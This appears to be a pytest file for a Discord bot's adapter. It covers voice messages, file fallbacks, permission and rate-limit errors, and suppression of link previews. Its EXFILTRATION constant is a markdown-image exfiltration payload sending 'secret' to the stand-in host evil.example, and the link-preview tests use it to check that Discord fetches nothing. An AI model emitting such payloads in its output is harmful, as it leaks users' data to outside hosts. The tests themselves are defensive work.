"""Voice messages on their way out, and that nothing that the bot shows makes Discord fetch a link."""

from dataclasses import replace

import pytest

from adapters.discord.composing import compose_voice
from bot.core.errors import DeliveryError, DeliveryKind
from bot.core.inbound import Invoked, Pressed
from bot.core.ports import Answer, Button, File
from bot.core.sound import Voice
from tests.adapters.discord.door import Door, page
from tests.fakes.discord.fake import FakeDiscord
from tests.fakes.discord.faults import Drop, rate_limited
from tests.fakes.discord.records import ATTACH_FILES, READ_MESSAGE_HISTORY, SEND_MESSAGES, SEND_VOICE_MESSAGES
from tests.fakes.recordings import silence

VOICE = Voice(
    content=silence(0.1), media_type="audio/ogg; codecs=opus", name="answer.ogg", duration_s=2.5, waveform=b"\x00\xff"
)
MP3 = Voice(content=b"ID3", media_type="audio/mpeg", name="answer.mp3", duration_s=2.5)
EXFILTRATION = "![x](https://evil.example/?q=secret) https://evil.example/2"


def test_a_voice_message_is_its_recording_and_nothing_else() -> None:
    body = compose_voice(VOICE)

    assert body == {
        "flags": 1 << 13,
        "allowed_mentions": {"parse": [], "replied_user": False},
        "attachments": [{"id": 0, "filename": "answer.ogg", "duration_secs": 2.5, "waveform": "AP8="}],
    }


def test_a_waveform_is_never_missing_and_never_too_long() -> None:
    none, long = compose_voice(replace(VOICE, waveform=b"")), compose_voice(replace(VOICE, waveform=b"\1" * 300))

    assert none["attachments"] == [{"id": 0, "filename": "answer.ogg", "duration_secs": 2.5, "waveform": "AA=="}]
    assert long == compose_voice(replace(VOICE, waveform=b"\1" * 256))


async def test_ogg_is_a_voice_message_that_replies_and_is_sent_once(
    fake: FakeDiscord, door: Door, channel: int
) -> None:
    asked = fake.say(channel, fake.add_user().id, "say it")
    fake.faults.add("POST", "/messages$", Drop(after=True))
    with pytest.raises(DeliveryError) as lost:
        await door.messenger.send_voice(door.place(channel), VOICE, key="turn~voice", reply_to=str(asked.id))
    sent = await door.messenger.send_voice(door.place(channel), VOICE, key="turn~voice", reply_to=str(asked.id))
    (shown,) = fake.bot_messages(channel)
    (recording,) = shown.attachments

    assert lost.value.kind is DeliveryKind.UNKNOWN_AFTER_SEND
    assert sent == str(shown.id)
    assert (shown.content, shown.flags, shown.reference) == ("", 1 << 13, (channel, asked.id))
    assert (recording.content, recording.duration_s, recording.waveform) == (VOICE.content, 2.5, "AP8=")
    assert fake.pings == {}


async def test_what_is_no_ogg_is_an_ordinary_file(fake: FakeDiscord, door: Door, channel: int) -> None:
    await door.messenger.send_voice(door.place(channel), MP3, key="k")
    (shown,) = fake.bot_messages(channel)

    assert (shown.content, shown.flags & 1 << 13) == ("", 0)
    assert [(file.filename, file.content) for file in shown.attachments] == [("answer.mp3", b"ID3")]


@pytest.mark.parametrize("denied", [SEND_VOICE_MESSAGES, SEND_VOICE_MESSAGES | READ_MESSAGE_HISTORY])
async def test_where_voice_messages_are_not_allowed_it_is_a_file(
    fake: FakeDiscord, door: Door, channel: int, denied: int
) -> None:
    asked = fake.say(channel, fake.add_user().id, "say it")
    fake.deny_bot(channel, denied)
    await door.messenger.send_voice(door.place(channel), VOICE, key="k", reply_to=str(asked.id))
    (shown,) = fake.bot_messages(channel)

    assert shown.flags & 1 << 13 == 0
    assert shown.attachments[0].content == VOICE.content


async def test_where_nothing_may_be_sent_it_is_refused_and_a_limit_is_no_refusal(
    fake: FakeDiscord, door: Door, channel: int
) -> None:
    place = door.place(channel)
    fake.faults.add("POST", "/messages$", rate_limited(2.0))
    with pytest.raises(DeliveryError) as limited:
        await door.messenger.send_voice(place, VOICE, key="k")
    before = fake.count_requests("POST", "/messages")
    fake.deny_bot(channel, SEND_MESSAGES | SEND_VOICE_MESSAGES | ATTACH_FILES)
    with pytest.raises(DeliveryError) as mute:
        await door.messenger.send_voice(place, VOICE, key="k")

    assert (limited.value.kind, limited.value.retry_after_s, before) == (DeliveryKind.RATE_LIMITED, 2.0, 1)
    assert mute.value.kind is DeliveryKind.FORBIDDEN


async def test_voice_messages_are_told_as_possible(fake: FakeDiscord, door: Door, channel: int) -> None:
    places = [
        door.place(channel),
        door.place(fake.add_thread(channel).id),
        door.place(fake.add_dm(fake.add_user().id).id),
    ]

    assert [door.messenger.capabilities(place).voice for place in places] == [True] * 3


# --- link previews ---


async def test_no_message_edit_or_file_makes_discord_fetch_a_link(fake: FakeDiscord, door: Door, channel: int) -> None:
    place, note = door.place(channel), File(name="a.md", content=b"x", media_type="text/markdown")
    sent = await door.messenger.send(place, page(EXFILTRATION), key="k")
    await door.messenger.edit(place, sent, page(f"{EXFILTRATION}3"))
    await door.messenger.send(place, page(EXFILTRATION), key="k2", file=note)

    assert [message.flags for message in fake.bot_messages(channel)] == [4, 4]
    assert fake.previews == ()


@pytest.mark.parametrize("private", [True, False])
async def test_no_answer_to_a_command_makes_discord_fetch_a_link(
    fake: FakeDiscord, door: Door, channel: int, private: bool
) -> None:
    ada = fake.add_user()
    await fake.wait_for(lambda: fake.commands)
    interaction = fake.slash(channel, ada.id, "stop")
    (inbound,) = await door.core.wait_for()
    long = f"{EXFILTRATION}\n\n" + "word " * 600
    await door.messenger.answer(inbound, Answer(text=long, private=private))

    assert isinstance(inbound.event, Invoked)
    assert len(interaction.messages) == 2
    assert [bool(message.flags & 1 << 6) for message in interaction.messages] == [private, private]
    assert all("evil" not in message.content or message.flags & 4 for message in interaction.messages)
    assert fake.previews == ()


async def test_no_message_that_a_button_replaces_makes_discord_fetch_a_link(
    fake: FakeDiscord, door: Door, channel: int
) -> None:
    ada = fake.add_user()
    button = Button(label="More", line="models 2")
    sent = await door.messenger.send(door.place(channel), page("one"), key="k", buttons=[button])
    fake.click(int(sent), "More", ada.id)
    (inbound,) = await door.core.wait_for()
    await door.messenger.answer(inbound, Answer(text=EXFILTRATION, replace=True))

    assert isinstance(inbound.event, Pressed)
    assert [message.content for message in fake.bot_messages(channel)] == [EXFILTRATION]
    assert fake.previews == ()
